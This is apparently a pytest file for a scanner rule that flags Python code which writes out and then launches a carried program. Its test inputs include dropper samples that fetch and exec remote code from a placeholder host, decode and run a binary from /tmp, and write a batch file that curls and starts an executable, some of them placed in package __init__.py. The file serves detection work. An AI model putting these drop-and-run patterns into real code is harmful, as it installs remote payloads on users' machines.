"""Carried programs that are written and started."""

from lazaretto.detect.rules.python.drops_and_runs import RULE


def test_a_fetching_script(scan):
    text = r"""from tempfile import NamedTemporaryFile as F
from sys import executable as python
from os import system as run
f = F(delete=False)
f.write(b"from urllib.request import urlopen;exec(urlopen('https://files.example.test/a').read())")
f.close()
run(f"start {python} {f.name}")
"""
    assert scan(RULE, text) == [(7, "HIGH", "HIGH", "import")]


def test_an_encoded_binary(scan):
    text = r"""import base64, subprocess
open("/tmp/helper.bin", "wb").write(base64.b64decode("AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"))
subprocess.Popen(["/tmp/helper.bin"])
"""
    assert scan(RULE, text, "package/__init__.py") == [(3, "HIGH", "HIGH", "import")]


def test_a_small_script_of_a_tool_is_context(scan):
    text = r"""import subprocess
def build():
    with open("probe.py", "w") as f:
        f.write("import sys, os\nprint(sys.version)")
    subprocess.run(["python", "probe.py"])
"""
    assert scan(RULE, text, "tools/build.py") == [(5, "LOW", "MEDIUM", "run")]


def test_near_miss_a_configuration_file(scan):
    text = r"""import subprocess
open("settings.ini", "w").write("[tool]\nverbose = yes, always and everywhere\n")
subprocess.run(["tool", "settings.ini"])
"""
    assert scan(RULE, text) == []


def test_a_batch_file_that_fetches(scan):
    text = r"""import subprocess
with open("/tmp/a.bat", "w") as f:
    f.write("@echo off\ncurl -o a.exe https://files.example.test/a.exe\nstart a.exe")
subprocess.Popen(["/tmp/a.bat"], shell=True)
"""
    assert [seen[:3] for seen in scan(RULE, text, "package/__init__.py")] == [(4, "HIGH", "HIGH")]
